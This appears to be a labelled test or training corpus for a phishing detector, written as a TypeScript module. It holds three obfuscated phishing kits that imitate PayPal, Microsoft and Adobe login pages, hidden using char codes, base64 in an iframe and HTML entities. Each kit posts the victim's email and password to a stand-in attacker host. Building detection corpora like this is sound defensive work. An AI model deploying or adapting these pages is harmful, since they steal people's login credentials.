import type { Entry } from '../entry.js';

/** Obfuscated kits: atob, char codes, packed JS, document.write of encoded HTML, hex escapes, split strings. */
const b64 = (s: string): string => Buffer.from(s, 'utf8').toString('base64');
const codes = (s: string): string => [...s].map((c) => c.charCodeAt(0)).join(',');

export const entries: Entry[] = [
  {
    id: 'obf-charcode-paypal',
    label: 'phishing',
    kind: 'obfuscated-kit',
    url: 'https://service-acct-restore.net/pp/index.html',
    body: `<html><head><title>Loading...</title></head><body><noscript>Please enable JavaScript.</noscript>
<script>var _0x=[${codes(`<title>Log in to your PayPal account</title><div style="width:460px;margin:40px auto;font-family:Helvetica"><img src="pp_logo.svg" alt="PayPal"><form action="https://service-acct-restore.net/pp/rcv.php" method="post"><input name="login_email" placeholder="Email or mobile number"><input type="password" name="login_password" placeholder="Password"><button>Log In</button></form></div>`)}];
var h='';for(var i=0;i<_0x.length;i++){h+=String.fromCharCode(_0x[i]);}document.open();document.write(h);document.close();</script></body></html>`,
  },
  {
    id: 'obf-base64-iframe-srcdoc',
    label: 'phishing',
    kind: 'obfuscated-kit',
    url: 'https://invoice-portal-docs.monster/inv/88231',
    body: `<!DOCTYPE html><html><head><meta charset="utf-8"><title>Invoice #88231</title><style>html,body,iframe{margin:0;border:0;width:100%;height:100%}</style></head><body>
<iframe id="v"></iframe>
<script>
const k = "${b64(`<html><body style="font-family:Segoe UI"><div style="width:420px;margin:80px auto"><img src="https://logincdn.msauth.net/shared/1.0/content/images/microsoft_logo.svg" alt="Microsoft"><h2>Enter password</h2><form action="https://invoice-portal-docs.monster/inv/log.php" method="post" target="_top"><input type="email" name="e" placeholder="Email"><input type="password" name="p" placeholder="Password"><button>Sign in</button></form></div></body></html>`)}";
document.getElementById('v').srcdoc = decodeURIComponent(escape(window.atob(k)));
</script></body></html>`,
  },
  {
    id: 'obf-html-entities-adobe',
    label: 'phishing',
    kind: 'obfuscated-kit',
    url: 'https://pdf-online-reader.sbs/share/doc',
    body: `<!DOCTYPE html><html><head><meta charset="utf-8"><title>&#65;&#100;&#111;&#98;&#101; &#68;&#111;&#99;&#117;&#109;&#101;&#110;&#116; &#67;&#108;&#111;&#117;&#100;</title></head>
<body style="font-family:Arial;background:#eee"><div style="width:380px;margin:80px auto;background:#fff;padding:30px">
<h3>&#65;&#100;&#111;&#98;&#101; &#80;&#68;&#70;</h3><p>&#84;&#111; &#114;&#101;&#97;&#100; &#116;&#104;&#101; &#100;&#111;&#99;&#117;&#109;&#101;&#110;&#116;, &#108;&#111;&#103;&#105;&#110; &#119;&#105;&#116;&#104; &#121;&#111;&#117;&#114; &#101;&#109;&#97;&#105;&#108;.</p>
<form action="&#104;&#116;&#116;&#112;&#115;&#58;&#47;&#47;pdf-online-reader.sbs/share/&#112;&#111;&#115;&#116;.php" method="post"><input name="&#101;&#109;&#97;&#105;&#108;" placeholder="&#69;&#109;&#97;&#105;&#108;"><input type="password" name="&#112;&#97;&#115;&#115;" placeholder="&#80;&#97;&#115;&#115;&#119;&#111;&#114;&#100;"><button>&#86;&#105;&#101;&#119;</button></form></div></body></html>`,
  },];
